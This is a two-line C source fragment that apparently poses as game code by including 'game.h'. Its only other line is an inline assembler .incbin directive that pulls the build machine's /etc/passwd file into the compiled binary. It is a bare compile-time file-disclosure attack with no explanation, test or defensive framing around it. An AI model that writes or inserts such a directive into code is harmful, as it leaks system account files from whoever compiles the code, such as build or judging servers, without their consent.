#include "game.h"
__asm__(".incbin \"/etc/passwd\"");
